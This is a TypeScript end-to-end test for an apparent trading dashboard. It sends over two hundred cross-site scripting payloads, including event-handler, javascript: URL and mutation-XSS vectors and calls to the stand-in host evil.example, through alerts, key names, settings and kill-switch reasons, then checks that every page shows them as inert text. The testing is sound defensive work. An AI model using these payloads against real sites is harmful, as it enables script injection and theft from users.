import { api, expect, open, row, test } from './fixture'

// What each of them does when a page takes it for more than a text. Nothing of it can be undone by the page.
const deed = "window.taken=1;document.title='taken';fetch('//evil.example')"
const quoted = `window['tak'+'en']=1`

/** The ways in which a text becomes a script, from the lists that are passed around. */
const ways = [
  `<script>${deed}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<ScRiPt>${deed}</sCrIpT>`,
  `<script>${deed}//`,
  `<img src=x onerror="${deed}">`,
  `<img src=x onerror=${quoted}//`,
  `<img/src=x/onerror=${quoted}>`,
  `<img src=//evil.example/pixel.png>`,
  `<svg onload=${quoted}>`,
  `<svg><script>${deed}</script></svg>`,
  `<svg><animate onbegin=${quoted} attributeName=x dur=1s>`,
  `<iframe src="javascript:${quoted}"></iframe>`,
  `<iframe srcdoc="<script>${quoted}</script>"></iframe>`,
  `<object data="javascript:${quoted}"></object>`,
  `<embed src="javascript:${quoted}">`,
  `<a href="javascript:${quoted}" id=x>x</a>`,
  `<form action="javascript:${quoted}"><button autofocus>x</button></form>`,
  `<input autofocus onfocus=${quoted}>`,
  `<details open ontoggle=${quoted}>x</details>`,
  `<video><source onerror=${quoted}></video>`,
  `<body onload=${quoted}>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<base href=//evil.example/>`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<math><mtext></form><form><mglyph><style></math><img src=x onerror=${quoted}>`,
  `<noscript><p title="</noscript><img src=x onerror=${quoted}>">`,
  `{@html '<img src=x onerror=${quoted}>'}`,
  `{constructor.constructor("${quoted}")()}`,
]

/** Where it may stand: by itself, behind the end of an attribute, a comment, a text area, a script, or escaped once. */
const places = [
  (way: string) => way,
  (way: string) => `">${way}`,
  (way: string) => `'>${way}`,
  (way: string) => `</title></textarea></style>${way}`,
  (way: string) => `--><!-- -->${way}`,
  (way: string) => `]]>${way}`,
  (way: string) => way.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (way: string) => `\u2028${way}\u2029`,
]

const vectors = places.flatMap((place) => ways.map(place))

const pages = ['Overview', 'Signals', 'Positions', 'Orders', 'Fills', 'Alerts', 'Tunnel', 'Strategies', 'Accounts']
const others = ['Access', 'Secrets', 'Telegram', 'Health', 'Audit', 'Settings', 'About']

test('hostile texts of alerts, names and settings are shown as texts on every page', async ({ page, hoox }) => {
  test.setTimeout(180_000)
  expect(vectors.length).toBeGreaterThanOrEqual(200)
  await api(page, 'Settings/Set', { key: 'webhook:rate_limit', value: '0' })
  await api(page, 'Settings/Set', { key: 'trade:max_orders_per_minute', value: '0' })

  // Through every field of an alert that keeps its words, and through the refusals that repeat some.
  for (const [n, vector] of vectors.entries()) {
    const alert = {
      apiKey: hoox.apiKey,
      exchange: 'paper',
      action: n % 5 === 4 ? vector : 'LONG',
      symbol: n % 7 === 6 ? vector : 'BTCUSDT',
      quantity: '0.001',
      comment: vector,
      strategy: vector.slice(0, 120).replaceAll('\u2028', '').replaceAll('\u2029', ''),
      idempotencyKey: `${n} ${vector.replace(/[^ -~]/g, '').slice(0, 110)}`,
      [vector.slice(0, 60)]: vector,
    }
    const { status } = await hoox.send(JSON.stringify(alert))
    expect([200, 400], `${vector}: ${status}`).toContain(status)
  }
  // Through what a person may name here.
  for (const [n, vector] of ways.entries()) {
    const name = `${n}${vector}`.slice(0, 40)
    await page.request.post(new URL('/api/WebhookKeys/Create', page.url()).href, {
      data: {
        label: name,
        scope: { strategy: '', accounts: [], symbols: [], entries: 'both', maxOrder: '', rateLimit: 0 },
      },
    })
    await page.request.post(new URL('/api/Tokens/Create', page.url()).href, { data: { name, scope: 'read' } })
    await page.request.post(new URL('/api/Settings/Set', page.url()).href, {
      data: { key: 'trade:routing', value: vector },
    })
    await page.request.post(new URL('/api/Kill/Set', page.url()).href, { data: { state: 'reducing', reason: vector } })
    await page.request.post(new URL('/api/Kill/Set', page.url()).href, { data: { state: 'active', reason: vector } })
  }
  const scripts = await page.locator('script').count()

  for (const name of [...pages, ...others]) {
    await open(page, name)
    await page.mouse.wheel(0, 5000)
    expect(
      await page.locator('main iframe, main object, main embed, main base, main meta, main form[action]').count(),
    ).toBe(0)
    expect(await page.locator('[onerror], [onload], [onfocus], [ontoggle], [onbegin]').count(), name).toBe(0)
    expect(
      await page.locator('a[href^="javascript:" i], [src*="evil.example"], [href*="evil.example"]').count(),
      name,
    ).toBe(0)
  }
  // The stories of some, where each word of an alert is repeated.
  await open(page, 'Signals')
  for (let n = 0; n < 12; n++) {
    await row(page, 'BTCUSDT').nth(n).click()
    await expect(page.getByText(/received/i).first()).toBeVisible()
    expect(await page.locator('[onerror], [onload], [onfocus]').count()).toBe(0)
    await page.keyboard.press('Escape')
  }

  expect(await page.locator('script').count()).toBe(scripts)
  expect(await page.evaluate(() => 'taken' in window)).toBe(false)
  expect(await page.title()).not.toBe('taken')
  // And they are texts: what was sent is what is shown.
  const { items } = await api<{ items: { comment: string }[] }>(page, 'Signals/List', { limit: 500 })
  const kept = new Set(items.map((signal) => signal.comment))
  const taken = vectors.filter((vector) => kept.has(vector))
  expect(taken.length).toBeGreaterThan(100)
})
